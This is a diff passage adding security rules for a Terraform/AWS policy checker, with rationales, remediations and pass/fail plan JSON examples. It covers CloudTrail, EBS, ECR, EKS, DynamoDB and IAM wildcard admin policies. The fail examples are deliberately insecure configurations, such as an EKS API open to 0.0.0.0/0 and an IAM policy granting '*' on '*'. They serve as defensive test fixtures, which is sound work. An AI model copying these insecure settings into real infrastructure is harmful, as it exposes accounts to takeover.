+        tags [terraform, aws, cloudtrail, logging]
+        rationale """
+          Log file validation makes CloudTrail write signed digest files, so that a deleted or edited
+          log file can be detected. Without it an intruder with access to the log bucket can remove the
+          records of what they did, and nobody can prove the logs are complete.
+        """
+        remediation "Set `enable_log_file_validation = true` and check the digests with `aws cloudtrail validate-logs`."
+
+        for t in terraform.resource("aws_cloudtrail")
+        when not is_null(t.after)
+        require t.after.enable_log_file_validation == true
+          else "'${t.address}' has enable_log_file_validation = ${default(t.after.enable_log_file_validation, false)}" at t.after.enable_log_file_validation
+          fix { set t.after.enable_log_file_validation = true }
+
+        example pass """
+          {"format_version": "1.2", "resource_changes": [
+            {"address": "aws_cloudtrail.main", "mode": "managed", "type": "aws_cloudtrail", "name": "main",
+             "provider_name": "registry.terraform.io/hashicorp/aws",
+             "change": {"actions": ["create"], "before": null, "after_unknown": {"arn": true},
+               "after": {"name": "main", "enable_log_file_validation": true, "is_multi_region_trail": true}}}]}
+        """
+        example fail """
+          {"format_version": "1.2", "resource_changes": [
+            {"address": "aws_cloudtrail.main", "mode": "managed", "type": "aws_cloudtrail", "name": "main",
+             "provider_name": "registry.terraform.io/hashicorp/aws",
+             "change": {"actions": ["create"], "before": null, "after_unknown": {"arn": true},
+               "after": {"name": "main", "enable_log_file_validation": ↓false, "is_multi_region_trail": true}}}]}
+        """ expect "'aws_cloudtrail.main' has enable_log_file_validation = false"
+        example indeterminate "set from a value known after apply" """
+          {"format_version": "1.2", "resource_changes": [
+            {"address": "aws_cloudtrail.main", "mode": "managed", "type": "aws_cloudtrail", "name": "main",
+             "provider_name": "registry.terraform.io/hashicorp/aws",
+             "change": {"actions": ["create"], "before": null, "after_unknown": {"enable_log_file_validation": true}, "after": {"name": "main"}}}]}
+        """
+      }
+
+      """#),
+    PolicySource(
+      path: "rules/security/terraform/aws/cloudtrail_not_encrypted_with_kms.plumb",
+      text: #"""
+      rule cloudtrail_not_encrypted_with_kms {
+        title "CloudTrail logs are encrypted with a KMS key"
+        severity medium
+        category security
+        tags [terraform, aws, cloudtrail, encryption, kms]
+        rationale """
+          Without `kms_key_id`, CloudTrail logs are encrypted with S3-managed keys, so anyone who can
+          read the log bucket reads the account's full activity history (resource names, IP addresses,
+          request parameters). With a KMS key, reading also needs `kms:Decrypt` on a key whose policy you
+          control, and every decryption is itself logged.
+        """
+        remediation "Set `kms_key_id` to the ARN of a customer managed KMS key whose policy lets CloudTrail encrypt with it."
+
+        for t in terraform.resource("aws_cloudtrail")
+        when not is_null(t.after)
+        # A key ARN known only after apply, taken from a KMS key or alias resource, is set.
+        let key_ref = any(x in t.config.kms_key_id.references, starts_with(x, "aws_kms_key.") or starts_with(x, "aws_kms_alias."))
+        require key_ref or not is_empty(t.after.kms_key_id)
+          else "'${t.address}' does not set kms_key_id" at t.after.kms_key_id
+
+        example pass """
+          {"format_version": "1.2", "resource_changes": [
+            {"address": "aws_cloudtrail.main", "mode": "managed", "type": "aws_cloudtrail", "name": "main",
+             "provider_name": "registry.terraform.io/hashicorp/aws",
+             "change": {"actions": ["create"], "before": null, "after_unknown": {"arn": true},
+               "after": {"name": "main", "kms_key_id": "arn:aws:kms:eu-west-1:111122223333:key/1234abcd"}}}]}
+        """
+        example pass "key created in the same configuration" """
+          {"format_version": "1.2",
+           "resource_changes": [
+            {"address": "aws_cloudtrail.main", "mode": "managed", "type": "aws_cloudtrail", "name": "main",
+             "provider_name": "registry.terraform.io/hashicorp/aws",
+             "change": {"actions": ["create"], "before": null, "after_unknown": {"arn": true, "kms_key_id": true}, "after": {"name": "main"}}}],
+           "configuration": {"root_module": {"resources": [
+            {"address": "aws_cloudtrail.main", "mode": "managed", "type": "aws_cloudtrail", "name": "main", "provider_config_key": "aws",
+             "expressions": {"kms_key_id": {"references": ["aws_kms_key.trail.arn", "aws_kms_key.trail"]}}}]}}}
+        """
+        example fail """
+          {"format_version": "1.2", "resource_changes": [
+            {"address": "aws_cloudtrail.main", "mode": "managed", "type": "aws_cloudtrail", "name": "main",
+             "provider_name": "registry.terraform.io/hashicorp/aws",
+             "change": {"actions": ["create"], "before": null, "after_unknown": {"arn": true},
+               "after": {"name": "main", "kms_key_id": ↓null}}}]}
+        """ expect "'aws_cloudtrail.main' does not set kms_key_id"
+        example indeterminate "key from a variable, known after apply" """
+          {"format_version": "1.2", "resource_changes": [
+            {"address": "aws_cloudtrail.main", "mode": "managed", "type": "aws_cloudtrail", "name": "main",
+             "provider_name": "registry.terraform.io/hashicorp/aws",
+             "change": {"actions": ["create"], "before": null, "after_unknown": {"kms_key_id": true}, "after": {"name": "main"}}}]}
+        """
+      }
+
+      """#),
+    PolicySource(
+      path: "rules/security/terraform/aws/cloudtrail_not_multi_region.plumb",
+      text: #"""
+      rule cloudtrail_not_multi_region {
+        title "CloudTrail trails record every region"
+        severity medium
+        category security
+        tags [terraform, aws, cloudtrail, logging]
+        rationale """
+          A single-region trail records nothing that happens in the other regions. Attackers with
+          stolen keys routinely work in regions the victim does not use (crypto-mining instances in
+          ap-southeast-2, for example) precisely because nobody logs or watches them.
+        """
+        remediation "Set `is_multi_region_trail = true` (and `include_global_service_events = true` for IAM and STS events)."
+
+        for t in terraform.resource("aws_cloudtrail")
+        when not is_null(t.after)
+        require t.after.is_multi_region_trail == true
+          else "'${t.address}' records only its own region (is_multi_region_trail = ${default(t.after.is_multi_region_trail, false)})" at t.after.is_multi_region_trail
+
+        example pass """
+          {"format_version": "1.2", "resource_changes": [
+            {"address": "aws_cloudtrail.main", "mode": "managed", "type": "aws_cloudtrail", "name": "main",
+             "provider_name": "registry.terraform.io/hashicorp/aws",
+             "change": {"actions": ["create"], "before": null, "after_unknown": {"arn": true},
+               "after": {"name": "main", "is_multi_region_trail": true}}}]}
+        """
+        example fail """
+          {"format_version": "1.2", "resource_changes": [
+            {"address": "aws_cloudtrail.main", "mode": "managed", "type": "aws_cloudtrail", "name": "main",
+             "provider_name": "registry.terraform.io/hashicorp/aws",
+             "change": {"actions": ["create"], "before": null, "after_unknown": {"arn": true},
+               "after": {"name": "main", "is_multi_region_trail": ↓false}}}]}
+        """ expect "'aws_cloudtrail.main' records only its own region (is_multi_region_trail = false)"
+        example indeterminate "set from a value known after apply" """
+          {"format_version": "1.2", "resource_changes": [
+            {"address": "aws_cloudtrail.main", "mode": "managed", "type": "aws_cloudtrail", "name": "main",
+             "provider_name": "registry.terraform.io/hashicorp/aws",
+             "change": {"actions": ["create"], "before": null, "after_unknown": {"is_multi_region_trail": true}, "after": {"name": "main"}}}]}
+        """
+      }
+
+      """#),
+    PolicySource(
+      path: "rules/security/terraform/aws/dynamodb_point_in_time_recovery_disabled.plumb",
+      text: #"""
+      rule dynamodb_point_in_time_recovery_disabled {
+        title "DynamoDB tables have point-in-time recovery"
+        severity medium
+        category security
+        tags [terraform, aws, dynamodb, backup]
+        rationale """
+          Without point-in-time recovery, a bad deployment, a buggy batch job or an attacker who
+          overwrites or deletes items leaves no way back short of the last on-demand backup, if there is
+          one. PITR restores the table to any second of the last 35 days.
+        """
+        remediation "Add `point_in_time_recovery { enabled = true }` to the table."
+
+        for t in terraform.resource("aws_dynamodb_table")
+        when not is_null(t.after)
+        # The block is computed when the configuration does not write it: PITR is then off.
+        let unset = exists(t.provider.key) and not exists(t.config.point_in_time_recovery) and is_unknown(t.after.point_in_time_recovery)
+        require not unset
+          else "'${t.address}' does not enable point-in-time recovery" at t.address
+        require unset or first(t.after.point_in_time_recovery).enabled == true
+          else "'${t.address}' has point-in-time recovery disabled" at first(t.after.point_in_time_recovery).enabled
+          fix { set t.after.point_in_time_recovery[0].enabled = true }
+
+        example pass """
+          {"format_version": "1.2", "resource_changes": [
+            {"address": "aws_dynamodb_table.orders", "mode": "managed", "type": "aws_dynamodb_table", "name": "orders",
+             "provider_name": "registry.terraform.io/hashicorp/aws",
+             "change": {"actions": ["create"], "before": null, "after_unknown": {"arn": true},
+               "after": {"name": "orders", "point_in_time_recovery": [{"enabled": true}]}}}]}
+        """
+        example fail """
+          {"format_version": "1.2",
+           "resource_changes": [
+            {"address": "aws_dynamodb_table.orders", "mode": "managed", "type": "aws_dynamodb_table", "name": "orders",
+             "provider_name": "registry.terraform.io/hashicorp/aws",
+             "change": {"actions": ["create"], "before": null, "after_unknown": {"arn": true},
+               "after": {"name": "orders", "point_in_time_recovery": [{"enabled": ↓false}]}}},
+            {"address": ↓"aws_dynamodb_table.sessions", "mode": "managed", "type": "aws_dynamodb_table", "name": "sessions",
+             "provider_name": "registry.terraform.io/hashicorp/aws",
+             "change": {"actions": ["create"], "before": null, "after_unknown": {"point_in_time_recovery": true},
+               "after": {"name": "sessions"}}}],
+           "configuration": {"root_module": {"resources": [
+            {"address": "aws_dynamodb_table.sessions", "mode": "managed", "type": "aws_dynamodb_table", "name": "sessions", "provider_config_key": "aws",
+             "expressions": {"name": {"constant_value": "sessions"}}}]}}}
+        """ expect "'aws_dynamodb_table.orders' has point-in-time recovery disabled"
+            expect "'aws_dynamodb_table.sessions' does not enable point-in-time recovery"
+        example indeterminate "set from a value known after apply" """
+          {"format_version": "1.2", "resource_changes": [
+            {"address": "aws_dynamodb_table.orders", "mode": "managed", "type": "aws_dynamodb_table", "name": "orders",
+             "provider_name": "registry.terraform.io/hashicorp/aws",
+             "change": {"actions": ["create"], "before": null, "after_unknown": {"point_in_time_recovery": [{"enabled": true}]},
+               "after": {"name": "orders", "point_in_time_recovery": [{}]}}}]}
+        """
+      }
+
+      """#),
+    PolicySource(
+      path: "rules/security/terraform/aws/ebs_encryption_by_default_disabled.plumb",
+      text: #"""
+      rule ebs_encryption_by_default_disabled {
+        title "EBS encryption by default stays on"
+        severity high
+        category security
+        tags [terraform, aws, ebs, encryption]
+        rationale """
+          With EBS encryption by default, every new volume and snapshot copy in the region is encrypted,
+          whatever the tool or person that creates it remembers to ask. `enabled = false` turns that
+          safety net off for the whole account and region.
+        """
+        remediation "Set `enabled = true` on `aws_ebs_encryption_by_default` (or remove the argument: it defaults to true)."
+
+        for e in terraform.resource("aws_ebs_encryption_by_default")
+        when not is_null(e.after)
+        require e.after.enabled == true
+          else "'${e.address}' turns EBS encryption by default off" at e.after.enabled
+          fix { set e.after.enabled = true }
+
+        example pass """
+          {"format_version": "1.2", "resource_changes": [
+            {"address": "aws_ebs_encryption_by_default.this", "mode": "managed", "type": "aws_ebs_encryption_by_default", "name": "this",
+             "provider_name": "registry.terraform.io/hashicorp/aws",
+             "change": {"actions": ["create"], "before": null, "after_unknown": {"id": true}, "after": {"enabled": true}}}]}
+        """
+        example fail """
+          {"format_version": "1.2", "resource_changes": [
+            {"address": "aws_ebs_encryption_by_default.this", "mode": "managed", "type": "aws_ebs_encryption_by_default", "name": "this",
+             "provider_name": "registry.terraform.io/hashicorp/aws",
+             "change": {"actions": ["update"], "before": {"enabled": true}, "after_unknown": {}, "after": {"enabled": ↓false}}}]}
+        """ expect "'aws_ebs_encryption_by_default.this' turns EBS encryption by default off"
+        example indeterminate "set from a value known after apply" """
+          {"format_version": "1.2", "resource_changes": [
+            {"address": "aws_ebs_encryption_by_default.this", "mode": "managed", "type": "aws_ebs_encryption_by_default", "name": "this",
+             "provider_name": "registry.terraform.io/hashicorp/aws",
+             "change": {"actions": ["create"], "before": null, "after_unknown": {"enabled": true}, "after": {}}}]}
+        """
+      }
+
+      """#),
+    PolicySource(
+      path: "rules/security/terraform/aws/ebs_volume_not_encrypted.plumb",
+      text: #"""
+      rule ebs_volume_not_encrypted {
+        title "EBS volumes are encrypted"
+        severity high
+        category security
+        tags [terraform, aws, ebs, encryption]
+        rationale """
+          An unencrypted EBS volume, and every snapshot taken of it, holds its data in clear text: a
+          snapshot shared by mistake, made public or copied to another account is a full copy of the
+          disk. Encryption cannot be added to an existing volume; it has to be recreated.
+        """
+        remediation """
+          Set `encrypted = true` (with `kms_key_id` for a customer managed key), or turn on
+          `aws_ebs_encryption_by_default` for the account and region, which encrypts every new volume.
+        """
+
+        for v in terraform.resource("aws_ebs_volume")
+        when not is_null(v.after)
+        # Account-level default encryption in the same plan encrypts every new volume.
+        let default_on = count(terraform.resource("aws_ebs_encryption_by_default")[after.enabled == true and file(it) == file(v)]) > 0
+        # `encrypted` is computed when the configuration does not set it: the volume then follows the
+        # account default (unencrypted unless turned on), or its snapshot when restored from one.
+        let unset = exists(v.provider.key) and not exists(v.config.encrypted) and is_unknown(v.after.encrypted)
+        let from_snapshot = exists(v.config.snapshot_id) or (known(v.after.snapshot_id) and not is_empty(v.after.snapshot_id))
+        require default_on or not (unset and not from_snapshot)
+          else "'${v.address}' does not set encrypted = true, and the plan does not turn on EBS encryption by default" at v.address
+        require default_on or (unset and not from_snapshot) or v.after.encrypted == true
+          else "'${v.address}' has encrypted = ${v.after.encrypted}" at v.after.encrypted
+
+        example pass """
+          {"format_version": "1.2", "resource_changes": [
+            {"address": "aws_ebs_volume.data", "mode": "managed", "type": "aws_ebs_volume", "name": "data",
+             "provider_name": "registry.terraform.io/hashicorp/aws",
+             "change": {"actions": ["create"], "before": null, "after_unknown": {"kms_key_id": true},
+               "after": {"availability_zone": "eu-west-1a", "size": 100, "encrypted": true}}}]}
+        """
+        example pass "account default encryption in the plan" """
+          {"format_version": "1.2",
+           "resource_changes": [
+            {"address": "aws_ebs_volume.data", "mode": "managed", "type": "aws_ebs_volume", "name": "data",
+             "provider_name": "registry.terraform.io/hashicorp/aws",
+             "change": {"actions": ["create"], "before": null, "after_unknown": {"encrypted": true},
+               "after": {"availability_zone": "eu-west-1a", "size": 100}}},
+            {"address": "aws_ebs_encryption_by_default.this", "mode": "managed", "type": "aws_ebs_encryption_by_default", "name": "this",
+             "provider_name": "registry.terraform.io/hashicorp/aws",
+             "change": {"actions": ["create"], "before": null, "after_unknown": {"id": true}, "after": {"enabled": true}}}],
+           "configuration": {"root_module": {"resources": [
+            {"address": "aws_ebs_volume.data", "mode": "managed", "type": "aws_ebs_volume", "name": "data", "provider_config_key": "aws",
+             "expressions": {"size": {"constant_value": 100}}}]}}}
+        """
+        example fail """
+          {"format_version": "1.2",
+           "resource_changes": [
+            {"address": "aws_ebs_volume.data", "mode": "managed", "type": "aws_ebs_volume", "name": "data",
+             "provider_name": "registry.terraform.io/hashicorp/aws",
+             "change": {"actions": ["create"], "before": null, "after_unknown": {},
+               "after": {"availability_zone": "eu-west-1a", "size": 100, "encrypted": ↓false}}},
+            {"address": ↓"aws_ebs_volume.scratch", "mode": "managed", "type": "aws_ebs_volume", "name": "scratch",
+             "provider_name": "registry.terraform.io/hashicorp/aws",
+             "change": {"actions": ["create"], "before": null, "after_unknown": {"encrypted": true, "snapshot_id": true},
+               "after": {"availability_zone": "eu-west-1a", "size": 100}}}],
+           "configuration": {"root_module": {"resources": [
+            {"address": "aws_ebs_volume.scratch", "mode": "managed", "type": "aws_ebs_volume", "name": "scratch", "provider_config_key": "aws",
+             "expressions": {"size": {"constant_value": 100}}}]}}}
+        """ expect "'aws_ebs_volume.data' has encrypted = false"
+            expect "'aws_ebs_volume.scratch' does not set encrypted = true, and the plan does not turn on EBS encryption by default"
+        example indeterminate "restored from a snapshot" """
+          {"format_version": "1.2",
+           "resource_changes": [
+            {"address": "aws_ebs_volume.restored", "mode": "managed", "type": "aws_ebs_volume", "name": "restored",
+             "provider_name": "registry.terraform.io/hashicorp/aws",
+             "change": {"actions": ["create"], "before": null, "after_unknown": {"encrypted": true},
+               "after": {"availability_zone": "eu-west-1a", "snapshot_id": "snap-0123456789abcdef0"}}}],
+           "configuration": {"root_module": {"resources": [
+            {"address": "aws_ebs_volume.restored", "mode": "managed", "type": "aws_ebs_volume", "name": "restored", "provider_config_key": "aws",
+             "expressions": {"snapshot_id": {"constant_value": "snap-0123456789abcdef0"}}}]}}}
+        """
+      }
+
+      """#),
+    PolicySource(
+      path: "rules/security/terraform/aws/ecr_image_tags_mutable.plumb",
+      text: #"""
+      rule ecr_image_tags_mutable {
+        title "ECR repositories make image tags immutable"
+        severity medium
+        category security
+        tags [terraform, aws, ecr, supply-chain]
+        rationale """
+          With mutable tags, anyone who can push to the repository (a compromised CI job, a leaked key)
+          can replace `app:1.4.2` with a different image, and every deployment that pulls by tag runs it
+          without any change to the deployment's own configuration. Immutable tags make a tag mean one
+          image forever.
+        """
+        remediation """
+          Set `image_tag_mutability = "IMMUTABLE"` (or `"IMMUTABLE_WITH_EXCLUSION"` to keep a moving tag
+          such as `latest` for development), push a new tag for every build, and deploy by digest.
+        """
+
+        for r in terraform.resource("aws_ecr_repository")
+        when not is_null(r.after)
+        require starts_with(default(r.after.image_tag_mutability, "MUTABLE"), "IMMUTABLE")
+          else "'${r.address}' has image_tag_mutability '${default(r.after.image_tag_mutability, "MUTABLE")}'" at r.after.image_tag_mutability
+
+        example pass """
+          {"format_version": "1.2", "resource_changes": [
+            {"address": "aws_ecr_repository.app", "mode": "managed", "type": "aws_ecr_repository", "name": "app",
+             "provider_name": "registry.terraform.io/hashicorp/aws",
+             "change": {"actions": ["create"], "before": null, "after_unknown": {"arn": true},
+               "after": {"name": "app", "image_tag_mutability": "IMMUTABLE"}}}]}
+        """
+        example fail """
+          {"format_version": "1.2", "resource_changes": [
+            {"address": "aws_ecr_repository.app", "mode": "managed", "type": "aws_ecr_repository", "name": "app",
+             "provider_name": "registry.terraform.io/hashicorp/aws",
+             "change": {"actions": ["create"], "before": null, "after_unknown": {"arn": true},
+               "after": {"name": "app", "image_tag_mutability": ↓"MUTABLE"}}}]}
+        """ expect "'aws_ecr_repository.app' has image_tag_mutability 'MUTABLE'"
+        example indeterminate "set from a value known after apply" """
+          {"format_version": "1.2", "resource_changes": [
+            {"address": "aws_ecr_repository.app", "mode": "managed", "type": "aws_ecr_repository", "name": "app",
+             "provider_name": "registry.terraform.io/hashicorp/aws",
+             "change": {"actions": ["create"], "before": null, "after_unknown": {"image_tag_mutability": true}, "after": {"name": "app"}}}]}
+        """
+      }
+
+      """#),
+    PolicySource(
+      path: "rules/security/terraform/aws/ecr_scan_on_push_disabled.plumb",
+      text: #"""
+      rule ecr_scan_on_push_disabled {
+        title "ECR repositories scan images on push"
+        severity medium
+        category security
+        tags [terraform, aws, ecr, supply-chain, vulnerabilities]
+        rationale """
+          Without scanning, images with known-exploitable packages (an old OpenSSL, a vulnerable log4j)
+          are pushed and deployed without anyone being told. Scan on push reports the vulnerabilities of
+          every new image, where CI and EventBridge rules can block or alert.
+        """
+        remediation """
+          Add `image_scanning_configuration { scan_on_push = true }` to the repository, or configure
+          registry-wide scanning with `aws_ecr_registry_scanning_configuration` (enhanced scanning with
+          Amazon Inspector), which this rule accepts for every repository of the same plan.
+        """
+
+        for r in terraform.resource("aws_ecr_repository")
+        when not is_null(r.after)
+        # Registry-level scanning in the same plan covers every repository.
+        let registry_scanning = count(terraform.resource("aws_ecr_registry_scanning_configuration")[mode == "managed" and file(it) == file(r)]) > 0
+        require registry_scanning or first(r.after.image_scanning_configuration).scan_on_push == true
+          else "'${r.address}' does not scan images on push" at first(r.after.image_scanning_configuration).scan_on_push
+          fix { set r.after.image_scanning_configuration[0].scan_on_push = true }
+
+        example pass """
+          {"format_version": "1.2", "resource_changes": [
+            {"address": "aws_ecr_repository.app", "mode": "managed", "type": "aws_ecr_repository", "name": "app",
+             "provider_name": "registry.terraform.io/hashicorp/aws",
+             "change": {"actions": ["create"], "before": null, "after_unknown": {"arn": true},
+               "after": {"name": "app", "image_scanning_configuration": [{"scan_on_push": true}]}}}]}
+        """
+        example fail """
+          {"format_version": "1.2", "resource_changes": [
+            {"address": "aws_ecr_repository.app", "mode": "managed", "type": "aws_ecr_repository", "name": "app",
+             "provider_name": "registry.terraform.io/hashicorp/aws",
+             "change": {"actions": ["create"], "before": null, "after_unknown": {"arn": true},
+               "after": {"name": "app", "image_scanning_configuration": [{"scan_on_push": ↓false}]}}}]}
+        """ expect "'aws_ecr_repository.app' does not scan images on push"
+        example indeterminate "set from a value known after apply" """
+          {"format_version": "1.2", "resource_changes": [
+            {"address": "aws_ecr_repository.app", "mode": "managed", "type": "aws_ecr_repository", "name": "app",
+             "provider_name": "registry.terraform.io/hashicorp/aws",
+             "change": {"actions": ["create"], "before": null, "after_unknown": {"image_scanning_configuration": [{"scan_on_push": true}]},
+               "after": {"name": "app", "image_scanning_configuration": [{}]}}}]}
+        """
+      }
+
+      """#),
+    PolicySource(
+      path: "rules/security/terraform/aws/eks_public_endpoint_open.plumb",
+      text: #"""
+      rule eks_public_endpoint_open {
+        title "EKS API endpoints are not open to the whole internet"
+        severity high
+        category security
+        tags [terraform, aws, eks, kubernetes, network]
+        rationale """
+          An EKS cluster's Kubernetes API endpoint is public by default and, unless
+          `public_access_cidrs` says otherwise, reachable from 0.0.0.0/0. Anyone can then probe it, try
+          stolen or leaked kubeconfig tokens, and exploit API server vulnerabilities before they are
+          patched.
+        """
+        remediation """
+          Set `vpc_config { endpoint_private_access = true, endpoint_public_access = false }` and reach
+          the API through the VPC (VPN, bastion, CI runners in the VPC), or keep the public endpoint and
+          restrict `public_access_cidrs` to your egress ranges.
+        """
+
+        for c in terraform.resource("aws_eks_cluster")
+        when not is_null(c.after)
+        let vpc = first(c.after.vpc_config)
+        when vpc.endpoint_public_access != false
+        # public_access_cidrs is computed when the configuration does not set it: AWS uses 0.0.0.0/0.
+        let cidrs_unset = exists(c.provider.key) and not exists(first(c.config.vpc_config).public_access_cidrs) and is_unknown(vpc.public_access_cidrs)
+        require not cidrs_unset
+          else "'${c.address}' has a public API endpoint and does not set public_access_cidrs (AWS opens it to 0.0.0.0/0)" at vpc.endpoint_public_access
+        require cidrs_unset or "0.0.0.0/0" not in vpc.public_access_cidrs
+          else "'${c.address}' has a public API endpoint open to 0.0.0.0/0" at vpc.public_access_cidrs
+
+        example pass """
+          {"format_version": "1.2", "resource_changes": [
+            {"address": "aws_eks_cluster.main", "mode": "managed", "type": "aws_eks_cluster", "name": "main",
+             "provider_name": "registry.terraform.io/hashicorp/aws",
+             "change": {"actions": ["create"], "before": null, "after_unknown": {"endpoint": true},
+               "after": {"vpc_config": [{"endpoint_private_access": true, "endpoint_public_access": true, "public_access_cidrs": ["203.0.113.0/24"]}]}}},
+            {"address": "aws_eks_cluster.private", "mode": "managed", "type": "aws_eks_cluster", "name": "private",
+             "provider_name": "registry.terraform.io/hashicorp/aws",
+             "change": {"actions": ["create"], "before": null, "after_unknown": {"vpc_config": [{"public_access_cidrs": true}]},
+               "after": {"vpc_config": [{"endpoint_private_access": true, "endpoint_public_access": false}]}}}]}
+        """
+        example fail """
+          {"format_version": "1.2",
+           "resource_changes": [
+            {"address": "aws_eks_cluster.main", "mode": "managed", "type": "aws_eks_cluster", "name": "main",
+             "provider_name": "registry.terraform.io/hashicorp/aws",
+             "change": {"actions": ["create"], "before": null, "after_unknown": {"endpoint": true},
+               "after": {"vpc_config": [{"endpoint_private_access": false, "endpoint_public_access": true, "public_access_cidrs": ↓["0.0.0.0/0"]}]}}},
+            {"address": "aws_eks_cluster.dev", "mode": "managed", "type": "aws_eks_cluster", "name": "dev",
+             "provider_name": "registry.terraform.io/hashicorp/aws",
+             "change": {"actions": ["create"], "before": null, "after_unknown": {"vpc_config": [{"public_access_cidrs": true}]},
+               "after": {"vpc_config": [{"endpoint_private_access": true, "endpoint_public_access": ↓true}]}}}],
+           "configuration": {"root_module": {"resources": [
+            {"address": "aws_eks_cluster.dev", "mode": "managed", "type": "aws_eks_cluster", "name": "dev", "provider_config_key": "aws",
+             "expressions": {"vpc_config": [{"endpoint_private_access": {"constant_value": true}}]}}]}}}
+        """ expect "'aws_eks_cluster.main' has a public API endpoint open to 0.0.0.0/0"
+            expect "'aws_eks_cluster.dev' has a public API endpoint and does not set public_access_cidrs"
+        example indeterminate "CIDRs from a value known after apply" """
+          {"format_version": "1.2",
+           "resource_changes": [
+            {"address": "aws_eks_cluster.main", "mode": "managed", "type": "aws_eks_cluster", "name": "main",
+             "provider_name": "registry.terraform.io/hashicorp/aws",
+             "change": {"actions": ["create"], "before": null, "after_unknown": {"vpc_config": [{"public_access_cidrs": true}]},
+               "after": {"vpc_config": [{"endpoint_public_access": true}]}}}],
+           "configuration": {"root_module": {"resources": [
+            {"address": "aws_eks_cluster.main", "mode": "managed", "type": "aws_eks_cluster", "name": "main", "provider_config_key": "aws",
+             "expressions": {"vpc_config": [{"public_access_cidrs": {"references": ["var.admin_cidrs"]}}]}}]}}}
+        """
+      }
+
+      """#),
+    PolicySource(
+      path: "rules/security/terraform/aws/eks_secrets_not_encrypted.plumb",
+      text: #"""
+      rule eks_secrets_not_encrypted {
+        title "EKS clusters encrypt Kubernetes secrets with KMS"
+        severity medium
+        category security
+        tags [terraform, aws, eks, kubernetes, encryption, kms]
+        rationale """
+          Without envelope encryption, Kubernetes Secrets (database passwords, API keys, service account
+          tokens) are stored in etcd protected only by EBS-level encryption; anyone who reads etcd or its
+          backups reads them. With an `encryption_config` for `secrets`, each secret is encrypted with a
+          KMS key whose use is controlled and logged.
+        """
+        remediation """
+          Add `encryption_config { resources = ["secrets"] provider { key_arn = aws_kms_key.eks.arn } }`
+          to the cluster (EKS 1.28+ also encrypts by default with an AWS-owned key, which cannot be
+          audited or revoked).
+        """
+
+        for c in terraform.resource("aws_eks_cluster")
+        when not is_null(c.after)
+        require any(e in c.after.encryption_config, "secrets" in e.resources)
+          else "'${c.address}' has no encryption_config for secrets" at c.address
+
+        example pass """
+          {"format_version": "1.2", "resource_changes": [
+            {"address": "aws_eks_cluster.main", "mode": "managed", "type": "aws_eks_cluster", "name": "main",
+             "provider_name": "registry.terraform.io/hashicorp/aws",
+             "change": {"actions": ["create"], "before": null,
+               "after_unknown": {"encryption_config": [{"provider": [{"key_arn": true}]}]},
+               "after": {"encryption_config": [{"provider": [{}], "resources": ["secrets"]}]}}}]}
+        """
+        example fail """
+          {"format_version": "1.2", "resource_changes": [
+            {"address": ↓"aws_eks_cluster.main", "mode": "managed", "type": "aws_eks_cluster", "name": "main",
+             "provider_name": "registry.terraform.io/hashicorp/aws",
+             "change": {"actions": ["create"], "before": null, "after_unknown": {"encryption_config": []},
+               "after": {"encryption_config": []}}}]}
+        """ expect "'aws_eks_cluster.main' has no encryption_config for secrets"
+        example indeterminate "resources known only after apply" """
+          {"format_version": "1.2", "resource_changes": [
+            {"address": "aws_eks_cluster.main", "mode": "managed", "type": "aws_eks_cluster", "name": "main",
+             "provider_name": "registry.terraform.io/hashicorp/aws",
+             "change": {"actions": ["create"], "before": null,
+               "after_unknown": {"encryption_config": [{"resources": true}]},
+               "after": {"encryption_config": [{"provider": [{"key_arn": "arn:aws:kms:eu-west-1:111122223333:key/1"}]}]}}}]}
+        """
+      }
+
+      """#),
+    PolicySource(
+      path: "rules/security/terraform/aws/iam_policy_admin_wildcard.plumb",
+      text: #"""
+      rule iam_policy_admin_wildcard {
+        title "IAM policies do not allow every action on every resource"
+        severity critical
+        category security
+        tags [terraform, aws, iam, least-privilege]
+        rationale """
+          A statement with `"Effect": "Allow"`, `"Action": "*"` and `"Resource": "*"` is full
+          administrator access: whoever holds it (a role assumed by a CI job, a Lambda, a leaked user
+          key) can read every secret, create users and keys for persistence, and delete the account's
+          infrastructure and backups.
+        """
+        remediation """
+          List the actions and resources the principal needs (IAM Access Analyzer can generate a policy
+          from CloudTrail activity). For break-glass administrators use the AWS-managed
+          AdministratorAccess policy on a role that requires MFA, managed outside this code.
+        """
+        # One statement object (nested at most two levels deep) with, at its own level, Allow and a "*"
+        # action and resource (alone or in a list). The policy is a JSON string: this is a regular
+        # expression over its text; deeper statements are not recognised (no finding).
+        param admin_statement: string = """\{(?=(?:[^{}]|\{(?:[^{}]|\{[^{}]*\})*\})*?"Effect"\s*:\s*"Allow")(?=(?:[^{}]|\{(?:[^{}]|\{[^{}]*\})*\})*?"Action"\s*:\s*(?:"\*"|\[[^\]]*"\*"[^\]]*\]))(?=(?:[^{}]|\{(?:[^{}]|\{[^{}]*\})*\})*?"Resource"\s*:\s*(?:"\*"|\[[^\]]*"\*"[^\]]*\]))(?:[^{}]|\{(?:[^{}]|\{[^{}]*\})*\})*\}"""
+
+        for p in terraform.resource("aws_iam_policy", "aws_iam_role_policy", "aws_iam_user_policy", "aws_iam_group_policy")
+        when not is_null(p.after)
+        require not (p.after.policy matches param.admin_statement)
+          else "'${p.address}' allows Action '*' on Resource '*' (full administrator access)" at p.after.policy
+
+        example pass """
+          {"format_version": "1.2", "resource_changes": [
+            {"address": "aws_iam_policy.deploy", "mode": "managed", "type": "aws_iam_policy", "name": "deploy",
+             "provider_name": "registry.terraform.io/hashicorp/aws",
+             "change": {"actions": ["create"], "before": null, "after_unknown": {"arn": true},
+               "after": {"name": "deploy", "policy": "{\"Statement\":[{\"Action\":[\"s3:*\",\"ec2:Describe*\"],\"Effect\":\"Allow\",\"Resource\":\"*\"},{\"Action\":\"*\",\"Effect\":\"Deny\",\"Resource\":\"*\",\"Condition\":{\"Bool\":{\"aws:MultiFactorAuthPresent\":\"false\"}}}],\"Version\":\"2012-10-17\"}"}}}]}
+        """
+        example fail """
+          {"format_version": "1.2", "resource_changes": [
+            {"address": "aws_iam_role_policy.ci", "mode": "managed", "type": "aws_iam_role_policy", "name": "ci",
+             "provider_name": "registry.terraform.io/hashicorp/aws",
+             "change": {"actions": ["create"], "before": null, "after_unknown": {"role": true},
+               "after": {"name": "ci", "policy": ↓"{\n  \"Version\": \"2012-10-17\",\n  \"Statement\": [\n    {\n      \"Action\": [\n        \"*\"\n      ],\n      \"Effect\": \"Allow\",\n      \"Resource\": \"*\"\n    }\n  ]\n}\n"}}}]}
+        """ expect "'aws_iam_role_policy.ci' allows Action '*' on Resource '*'"
+        example indeterminate "policy rendered at apply" """
+          {"format_version": "1.2", "resource_changes": [
